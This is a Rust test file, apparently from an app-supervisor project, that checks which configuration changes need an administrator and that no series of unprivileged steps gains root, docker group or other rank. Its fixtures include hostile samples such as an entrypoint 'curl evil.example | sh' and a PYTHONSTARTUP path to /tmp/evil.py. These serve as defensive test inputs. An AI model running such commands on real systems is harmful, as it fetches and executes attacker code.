//! Who may change what, called.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::launch::Launch;

fn base() -> Configuration {
    Configuration::new(Launch::parse("main.py").unwrap())
}

fn patched(before: &Configuration, patch: &Value) -> Configuration {
    before.patched(patch.as_object().unwrap()).unwrap()
}

/// What a token for apps cannot give, with the field that says so.
fn gifts() -> [(&'static str, Value); 5] {
    [
        ("user", json!({"user": "root"})),
        ("user", json!({"user": "mantyx"})),
        ("groups", json!({"groups": ["docker"]})),
        ("limits.nice", json!({"limits": {"nice": -1}})),
        ("limits.oom_score", json!({"limits": {"oom_score": -1000}})),
    ]
}

/// What decides about what runs.
fn codes() -> [(&'static str, Value); 7] {
    [
        ("entrypoint", json!({"entrypoint": "curl evil.example | sh"})),
        ("arguments", json!({"arguments": ["-c", "evil()"]})),
        ("working_directory", json!({"working_directory": "evil"})),
        ("env", json!({"env": {"PYTHONSTARTUP": "/tmp/evil.py"}})),
        ("env", json!({"env": {"KEPT": null}})),
        ("python", json!({"python": ">=3.8"})),
        ("health.probe", json!({"health": {"probe": {"kind": "exec", "command": "evil"}}})),
    ]
}

/// What only says how an app is cared for, or when it runs.
fn cares() -> [Value; 9] {
    [
        json!({"restart_limit": 9}),
        json!({"stop_grace": 1, "stop_signal": "INT"}),
        json!({"autostart": false, "retry": false}),
        json!({"web_port": 9000}),
        json!({"timeout": 5, "watchdog": 5}),
        json!({"limits": {"memory": "1 GiB", "processes": 9}}),
        json!({"limits": {"nice": 19, "oom_score": 1000}}),
        json!({"health": {"probe": {"kind": "http", "url": "http://127.0.0.1/"}}}),
        json!({"health": {"interval": 5}}),
    ]
}

#[test]
fn more_than_every_app_has_is_given_by_an_administrator() {
    for (field, gift) in gifts() {
        let more = patched(&base(), &gift);
        let gives = Some(NeedsAdmin::Gives(field));
        assert_eq!((more.needs_admin(None), more.needs_admin(Some(&base()))), (gives, gives));
        assert_eq!(more.needs_admin(Some(&more)), None, "{field} stays as it was");
        assert_eq!(more.given(), Some(field));
        let is_taken = base().needs_admin(Some(&more)).is_some();
        assert_eq!(is_taken, !field.starts_with("limits."), "{field}");
    }
    assert_eq!((base().needs_admin(None), base().given()), (None, None));
}

#[test]
fn what_such_an_app_runs_is_for_an_administrator_too() {
    let base = patched(&base(), &json!({"env": {"KEPT": "1"}}));
    for (given, gift) in gifts() {
        let more = patched(&base, &gift);
        for (field, code) in codes() {
            let refused = patched(&more, &code).needs_admin(Some(&more));
            assert_eq!(refused, Some(NeedsAdmin::Runs { field, given }), "{code} of {gift}");
            assert_eq!(refused.unwrap().field(), field);
            assert_eq!(patched(&base, &code).needs_admin(Some(&base)), None, "{code} of any app");
        }
    }
}

#[test]
fn how_it_is_cared_for_stays_with_who_operates_it() {
    for (_, gift) in gifts() {
        let more = patched(&base(), &gift);
        let cares = cares().into_iter().map(|care| patched(&more, &care));
        for cared in cares.filter(|cared| cared.given() == more.given()) {
            assert_eq!(cared.needs_admin(Some(&more)), None);
        }
    }
}

#[test]
fn a_command_line_of_a_check_may_be_taken_away_by_anybody() {
    let exec = json!({"user": "root", "health": {"probe": {"kind": "exec", "command": "check"}}});
    let before = patched(&base(), &exec);
    let none = patched(&before, &json!({"health": {"probe": {"kind": "none"}}}));
    assert_eq!(none.needs_admin(Some(&before)), None);
    let back = before.needs_admin(Some(&none));
    assert_eq!(back, Some(NeedsAdmin::Runs { field: "health.probe", given: "user" }));
}

#[test]
fn what_loses_its_rank_in_the_same_change_may_run_anything() {
    let ranked = patched(&base(), &json!({"limits": {"nice": -5}}));
    let plain = json!({"limits": {"nice": null}, "entrypoint": "other.py"});
    assert_eq!(patched(&ranked, &plain).needs_admin(Some(&ranked)), None);
    // The user is not for anybody else to take, so this is no way around.
    let root = patched(&base(), &json!({"user": "root"}));
    let plain = json!({"user": null, "entrypoint": "other.py"});
    assert_eq!(patched(&root, &plain).needs_admin(Some(&root)), Some(NeedsAdmin::Gives("user")));
}

/// Any change that can be made of the ones above.
fn changes() -> impl Strategy<Value = Vec<Value>> {
    let gifts = gifts().into_iter().map(|(_, gift)| gift);
    let taken = [json!({"user": null}), json!({"groups": []}), json!({"limits": null})];
    let all: Vec<Value> =
        gifts.chain(codes().into_iter().map(|(_, code)| code)).chain(cares()).chain(taken).collect();
    prop::collection::vec(prop::sample::select(all), 0..12)
}

proptest! {
    /// However it is gone about: by steps that need no administrator an app neither gets more than it had, nor does
    /// other code get what the app had.
    #[test]
    fn no_detour_leads_to_more(first in changes(), then in changes()) {
        let start = first.iter().fold(base(), |before, patch| patched(&before, patch));
        let mut now = start.clone();
        for patch in &then {
            let next = patched(&now, patch);
            if next.needs_admin(Some(&now)).is_none() {
                now = next;
            }
        }
        prop_assert_eq!((&now.user, &now.groups), (&start.user, &start.groups));
        let most = |c: &Configuration| (c.limits.nice.filter(|it| *it < 0), c.limits.oom_score.filter(|it| *it < 0));
        let ((nice, score), had) = (most(&now), most(&start));
        prop_assert!(nice.is_none() || nice == had.0);
        prop_assert!(score.is_none() || score == had.1);
        if now.given().is_some() && now.given() == start.given() {
            let code = |c: &Configuration| (c.entrypoint.clone(), c.arguments.clone(), c.env.clone(), c.python.clone());
            prop_assert_eq!(code(&now), code(&start));
        }
    }
}
